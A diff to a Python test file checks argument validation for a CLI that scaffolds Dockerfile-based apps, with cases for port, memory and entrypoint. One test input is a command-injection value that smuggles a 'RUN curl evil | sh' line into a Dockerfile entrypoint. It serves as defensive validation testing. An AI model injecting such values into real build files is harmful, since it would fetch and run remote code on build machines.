@@ -110,8 +110,12 @@ def test_existing_files_are_not_overwritten_without_force(
         (["--memory", "lots"], "--memory: must be a whole number with a unit k, m or g"),
         (["--cpus", "0"], "--cpus: must be a positive number"),
         (["--port", "80"], "--port: must be a whole number from 1024 to 65535"),
+        (["--port", "017720"], "--port: must be a whole number from 1024 to 65535"),
         (["--app-name", "Bad Name"], "--app-name: must be 1-63 lowercase letters"),
-        (["--entrypoint", 'app:app"]\nRUN curl evil | sh'], "--entrypoint: must be module:attr"),
+        (
+            ["--entrypoint", 'app:app"]\nRUN curl evil | sh'],
+            "--entrypoint: must not contain control characters",
+        ),
         (["--package-manager", "conda"], "--package-manager: must be one of pip, poetry, uv"),
         (["--runtime-base", "distroless", "--python-version", "3.12"], "--python-version: must be 3.11"),
         (["--ci", "gitlab"], "--ci: must be one of none, github"),
@@ -203,7 +207,7 @@ def test_update_takes_the_answer_flags_of_new(cli_invoke: Invoke, copy_app: Call
     assert service["ports"] == ["127.0.0.1:9000:9000"]
     assert "EXPOSE 9000" in (app / "Dockerfile").read_text()
     answers = yaml.safe_load((app / ".copier-answers.yml").read_text())
-    assert (answers["memory"], answers["port"]) == ("1g", 9000)
+    assert (answers["memory"], answers["port"]) == ("1g", "9000")
 
 
 @FAST
